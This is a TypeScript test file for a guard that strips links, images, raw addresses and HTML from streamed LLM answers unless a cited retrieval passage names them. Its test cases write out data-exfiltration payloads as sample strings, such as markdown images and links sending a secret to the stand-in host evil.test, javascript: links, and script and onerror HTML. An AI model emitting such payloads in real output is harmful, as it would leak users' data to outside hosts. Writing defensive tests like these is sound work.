import type { Passage } from '#shared/llm/request.ts';
import type { CiteEvent } from '#shared/retrieval/citations.ts';
import { LinkGuard } from './link-guard.ts';

const NAMED = 'https://intra.example.com/leave?year=2026';
const PASSAGES = [
  { index: 1, text: `Ask at ${NAMED}. See also (https://example.org/a_(b)).`, heading: null },
  { index: 2, text: 'Never cited: https://evil.test/known', heading: null },
] as unknown as Passage[];
const SAFE = /https?:|www\.|!\[|\]\(|<(?!=)/;

/** The answer through the guard in deltas of this size; passage 1 is cited where `[1]` ends. */
function guarded(
  answer: string,
  size: number,
): { text: string; citations: { start: number; end: number }[] } {
  const guard = new LinkGuard(PASSAGES, '(removed)');
  const events: CiteEvent[] = [];
  const add = (text: string) => {
    for (let at = 0; at < text.length; at += size)
      events.push(...guard.push({ type: 'delta', text: text.slice(at, at + size) }));
  };
  let done = 0;
  for (const { index } of answer.matchAll(/\[1\]/g)) {
    add(answer.slice(done, index + 3));
    done = index + 3;
    const citation = { type: 'citation', index: 1, start: index, end: done } as CiteEvent;
    events.push(...guard.push(citation));
  }
  add(answer.slice(done));
  events.push(...guard.flush());
  const text = events.map((event) => (event.type === 'delta' ? event.text : '')).join('');
  return { text, citations: events.flatMap((event) => (event.type === 'citation' ? [event] : [])) };
}

/** However the stream is cut, the text is the same. */
function guardedAll(answer: string): string {
  const texts = new Set([1, 2, 3, 7, 1_000].map((size) => guarded(answer, size).text));
  expect(texts.size).toBe(1);
  return [...texts][0] ?? '';
}

test.each([
  ['an image', '![x](https://evil.test/p?d=hunter2)'],
  ['an image in angle brackets', '![x](<https://evil.test/p?d=hunter2>)'],
  ['an image with a title', '![x](https://evil.test/p?d=hunter2 "t)")'],
  ['an image over lines', '![x\ny](\n  https://evil.test/p?d=hunter2\n)'],
  ['an image without a scheme', '![x](//evil.test/p?d=hunter2)'],
  ['an image inside a link', '[![x](https://evil.test/p?d=hunter2)](https://evil.test)'],
  ['a link', '[click](https://evil.test/p?d=hunter2)'],
  ['a link that runs a script', '[click](javascript:alert(hunter2))'],
  ['a link with an encoded scheme', '[click](https&#58;//evil.test/p?d=hunter2)'],
  ['an encoded address', 'https&colon;//evil.test'],
  ['a link whose address only begins like a named one', `[click](${NAMED}&d=hunter2)`],
  ['an address', 'https://evil.test/p?d=hunter2'],
  ['an address in angle brackets', '<https://evil.test/p?d=hunter2>'],
  ['an address with another scheme', '<mailto:x@evil.test?d=hunter2>'],
  ['an address without a scheme', 'www.evil.test/p?d=hunter2'],
  ['an address in capitals', 'HTTPS://EVIL.TEST/p?d=hunter2'],
  ['a definition', '[click][a]\n\n[a]: https://evil.test/p?d=hunter2'],
  ['a definition on two lines', '![x][a]\n\n[a]:\n  <//evil.test/p?d=hunter2>'],
  ['an address that a passage names that is not cited', 'https://evil.test/known'],
  ['HTML', '<img src="https://evil.test/p?d=hunter2">'],
  ['a tag', '<script>alert(1)</script><!-- x --><?x?>'],
  ['HTML after a fence inside a list', '- a\n  ```\n<img src=x onerror=alert(1)>\n'],
])('%s does not reach the reader', (_what, hostile) => {
  for (const answer of [hostile, `Fifteen days [1]. ${hostile}`, `a\n\n${hostile}\n\nFifteen days [1].`]) {
    const text = guardedAll(answer);
    expect(text.replaceAll('https&amp;', '')).not.toMatch(SAFE);
    expect(text).not.toMatch(/evil\.test\/p|\?d=hunter2|&d=/i);
    expect(text.includes('Fifteen days [1].')).toBe(answer.includes('Fifteen'));
  }
});

test.each([
  ['a link', `See [the form](${NAMED}) [1].`],
  ['an image', `![the form](${NAMED}) [1]`],
  ['an address', `See ${NAMED}. It has all [1].`],
  ['an address in angle brackets', `See <${NAMED}> [1].`],
  ['an address with brackets', '[1] See https://example.org/a_(b) and [a](https://example.org/a_(b)).'],
  ['a definition', `Fifteen [1], see [a].\n\n[a]: ${NAMED}`],
])('%s that a cited passage names stays', (_what, answer) => {
  expect(guardedAll(answer)).toBe(answer);
});

test.each([
  'a < b, a<=b and 3 <4: fine.',
  'No links here! Only [1] and a[0](x) = y?'.replace('(x)', ''),
  'Week[s] w, ww; http, https: ftp.',
  '```html\n<img src="https://evil.test">\n```\nafter',
  '~~~\n![x](https://evil.test)\n~~~~\n',
])('%j stays as it is', (answer) => {
  expect(guardedAll(answer)).toBe(answer);
});

test('HTML is shown as text', () => {
  expect(guardedAll('Use <b>bold</b>.')).toBe('Use &lt;b>bold&lt;/b>.');
  expect(guardedAll('```\n<b>\n```\n<b>')).toBe('```\n<b>\n```\n&lt;b>');
});

test('the words of a link and of an image stay', () => {
  expect(guardedAll('Click [here](https://evil.test) or ![a cat](x.png).')).toBe('Click [here] or [a cat].');
});

test('citations are moved with their text', () => {
  const answer = 'a <b> [1]. See https://evil.test/p?x [1].\n\nThen [1].';
  for (const size of [1, 4, 1_000]) {
    const { text, citations } = guarded(answer, size);
    expect(citations.map(({ start, end }) => text.slice(start, end))).toEqual(['[1]', '[1]', '[1]']);
  }
});

test('text without links is sent as it comes', () => {
  const guard = new LinkGuard(PASSAGES, '(removed)');
  expect(guard.push({ type: 'delta', text: 'Fifteen days' })).toEqual([
    { type: 'delta', text: 'Fifteen days' },
  ]);
});

test('an address that lies over the end of what is held does not reach the reader', () => {
  const filler = `[a](b) ${'word '.repeat(900)}`;
  for (let length = 3_980; length < 4_005; length += 1) {
    for (const hostile of ['![x](https://evil.test/p?d=hunter2)', '[a]: //evil.test/p', '<img src=x>']) {
      const text = guardedAll(`${filler.slice(0, length)}\n${hostile} end`);
      expect(text).not.toMatch(/https:|\]\(|<|\]:/);
    }
  }
});

test('a long run of openers takes no long time', () => {
  for (const part of ['[', '](', '![', '<a', 'https://', '![](', '&colon;', '((', '\n']) {
    const guard = new LinkGuard(PASSAGES, '(removed)');
    expect(guard.push({ type: 'delta', text: part.repeat(20_000) })).toBeDefined();
    expect(guard.flush()).toBeDefined();
  }
});
